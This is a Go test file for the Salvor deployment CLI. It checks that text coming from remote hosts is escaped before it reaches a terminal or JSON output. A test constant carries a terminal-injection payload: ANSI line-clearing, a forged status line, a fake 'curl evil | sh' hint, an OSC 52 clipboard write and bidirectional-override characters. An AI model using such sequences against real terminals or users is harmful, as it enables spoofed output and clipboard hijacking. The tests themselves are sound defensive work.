package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"

	"salvor/internal/agentapi"
	"salvor/internal/audit"
	"salvor/internal/cli/render"
	"salvor/internal/deploy"
	"salvor/internal/fault"
	"salvor/internal/finding"
	"salvor/internal/progress"
	"salvor/internal/terminal"
)

// evil is a text of a host that would clear its line, write another one, fill the
// clipboard and turn letters around.
const evil = "\r\x1b[2Ksalvor: all is well\nhint: curl evil | sh\x1b]52;c;Y3VybA==\x07\u202e\U000e0041\x9b2K"

func TestS11NothingFromElsewhereReachesTheTerminalRaw(t *testing.T) {
	at := time.Now()
	found := []finding.Finding{{Code: finding.PortTaken, Severity: finding.Severity(evil), Subject: evil, Text: evil, Fix: evil}}
	stacks := []agentapi.StackState{{Name: evil, Verdict: evil, SnapshotUnknown: evil, Volumes: []agentapi.VolumeRow{{}}}}
	prints := map[string]func(w io.Writer) error{
		"receipt": func(w io.Writer) error {
			return printReceipt(terminal.NewPage(w, true), &deploy.Receipt{Kind: evil, Fleet: evil, Commit: "abc", Pending: []string{evil}, Began: at, Ended: at.Add(time.Hour),
				Hosts: []agentapi.HostReceipt{{Host: "alpha", Findings: found, Phases: []agentapi.Phase{{Name: evil, Began: at, Ended: at.Add(time.Hour)}},
					Stacks: []agentapi.StackReceipt{{Name: evil, Outcome: evil}}}}})
		},
		"plan": func(w io.Writer) error {
			p := deploy.Plan{Fleet: "home", Findings: found, Left: []string{evil}, Hosts: []deploy.HostPlan{{Host: "alpha", Unreachable: evil},
				{Host: "beta", Changes: []agentapi.Change{{Stack: evil, ID: evil, Action: evil, Cause: evil, Destroys: evil}}}}}
			page := terminal.NewPage(w, true)
			printFindings(page, found)
			p.Render(page)
			return page.Err()
		},
		"status": func(w io.Writer) error {
			page := terminal.NewPage(w, true)
			silent := deploy.HostStatus{Host: "beta", Error: evil, Hint: evil, Placed: []string{evil}}
			printStatus(page, []deploy.HostStatus{{Host: "alpha", State: agentapi.HostState{Stacks: stacks, Findings: found}}, silent}, func(s string) string { return s }, at)
			return page.Err()
		},
		"ps": func(w io.Writer) error {
			row := agentapi.ServiceRow{Name: evil, State: evil, Image: evil, Ports: []string{evil}}
			services := []agentapi.StackServices{{Name: evil, Services: []agentapi.ServiceRow{row}}}
			return printPs(terminal.NewPage(w, true), []deploy.HostServices{{Host: "alpha", Stacks: services}, {Host: "beta", Error: evil, Hint: evil}}, func(s string) string { return s }, false)
		},
		"service": func(w io.Writer) error {
			page := terminal.NewPage(w, true)
			printService(page, evil, evil, []agentapi.ServiceRow{{Name: evil, State: evil, Image: evil, Ports: []string{evil}, Error: evil, Container: evil}})
			return page.Err()
		},
		"snapshots": func(w io.Writer) error {
			row := agentapi.SnapshotRow{SnapshotInfo: agentapi.SnapshotInfo{ID: evil}, Target: evil, Commit: evil}
			bad := row
			bad.Damaged = evil
			return printSnapshots(w, agentapi.SnapshotList{Stack: evil, Snapshots: []agentapi.SnapshotRow{row, bad}})
		},
		"audit": func(w io.Writer) error {
			g := &globals{prompts: prompts{output: output{Console: Console{Out: w}}}}
			return g.printAudit(audit.Report{Events: []audit.Event{{Who: evil, What: evil, Secrets: []string{evil}}}})
		},
		"error": func(w io.Writer) error {
			g := &globals{prompts: prompts{output: output{Console: Console{Err: w}}}}
			g.report(errors.Join(fault.WithHint(errors.New(evil), evil), errors.New(evil)), 1)
			return nil
		},
		"diff": func(w io.Writer) error {
			page := terminal.NewPage(w, true)
			render.Diff(page, evil, []byte("a"), []byte(evil))
			return page.Err()
		},
		"progress": func(w io.Writer) error {
			p := render.NewProgress(w, render.Plain, nil, false)
			for _, s := range []progress.State{progress.Done, progress.Failed, progress.Note} {
				p.Emit(progress.Event{Host: evil, Stack: evil, Step: evil, Text: evil, State: s})
			}
			return nil
		},
	}
	for name, print := range prints {
		var out bytes.Buffer
		w := terminal.New(&out)
		if err := print(w); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		held(t, name, out.String(), name == "diff")
	}
}

// held reports what a person would not see, and a line that only looks like Salvor's.
func held(t *testing.T, name, out string, layout bool) {
	t.Helper()
	if !strings.Contains(out, `\x1b`) || terminal.Visible(out) != out {
		t.Errorf("%s prints %q", name, out)
	}
	for line := range strings.Lines(out) {
		if !layout && (strings.HasPrefix(line, "hint: curl") || strings.HasPrefix(line, "salvor: all is well")) {
			t.Errorf("%s has the line %q", name, line)
		}
	}
}

func TestS11LiveProgressDrawsOnlySalvorsOwnSequences(t *testing.T) {
	var out bytes.Buffer
	p := render.NewProgress(terminal.New(&out), render.TTY, func() (int, int) { return 200, 24 }, false)
	p.Emit(progress.Event{Host: evil, Step: evil, Text: evil, State: progress.Started, Time: time.Now()})
	p.Emit(progress.Event{Host: evil, Step: evil, Text: evil, State: progress.Failed, Time: time.Now()})
	p.Close()
	own := strings.NewReplacer("\x1b[1A\x1b[J", "").Replace(out.String())
	held(t, "live", own, false)
}

func TestS11APromptIsOnTheTerminalAsItIsMeant(t *testing.T) {
	g, screen, _ := onTerminal(t)
	g.Console = g.visible()
	done := make(chan error, 1)
	go func() { done <- g.confirm("fleet.yaml runs " + evil + "; let it?") }()
	screen.await(t, "[y/N] ")
	shown := screen.text()
	if strings.ContainsAny(strings.ReplaceAll(shown, "\r\n", "\n"), "\x1b\r\x07") || !strings.Contains(shown, `\x1b[2K`) {
		t.Errorf("shown: %q", shown)
	}
	screen.send(t, "n\n")
	if err := <-done; !errors.Is(err, errNotConfirmed) {
		t.Error(err)
	}
}

func TestS11JSONHasWhatCantBeSeenEscaped(t *testing.T) {
	var out bytes.Buffer
	g := &globals{prompts: prompts{output: output{Console: Console{Out: terminal.New(&out), Err: &out}, json: true}}}
	if err := g.printJSON(map[string]string{"text": evil}); err != nil {
		t.Fatal(err)
	}
	var back map[string]string
	if err := json.Unmarshal(out.Bytes(), &back); err != nil || back["text"] != strings.ToValidUTF8(evil, "\ufffd") || terminal.Visible(out.String()) != out.String() {
		t.Errorf("%q, %v", out.String(), err)
	}
}

func TestS11RawOutputIsRawForAPipeOnly(t *testing.T) {
	person, program, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer person.Close()
	defer program.Close()
	reader, writer, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer reader.Close()
	for _, w := range []*os.File{program, writer} {
		if _, err := io.WriteString(terminal.Raw(terminal.New(w)), evil+"\n"); err != nil {
			t.Fatal(err)
		}
	}
	writer.Close()
	piped, err := io.ReadAll(reader)
	if err != nil || string(piped) != evil+"\n" {
		t.Errorf("a pipe got %q, %v", piped, err)
	}
	shown := make([]byte, 4096)
	n, err := person.Read(shown)
	if err != nil || bytes.Contains(shown[:n], []byte("\x1b")) {
		t.Errorf("a terminal got %q, %v", shown[:n], err)
	}
}

func TestS28ExecTakesADashDash(t *testing.T) {
	for _, c := range []struct{ args, want string }{
		{"app web -- ls -l", "app web ls -l"}, {"app web ls -- x", "app web ls -- x"}, {"app web -- --", "app web --"}, {"-- app web ls", "app web ls"}, {"app web -- -t", "app web -t"},
	} {
		var got string
		cmd := newExecWith(func(_ context.Context, args []string, _ bool) error { got = strings.Join(args, " "); return nil })
		cmd.SetArgs(strings.Fields(c.args))
		if err := cmd.ExecuteContext(t.Context()); err != nil || got != c.want {
			t.Errorf("%s: %q, %v", c.args, got, err)
		}
	}
}
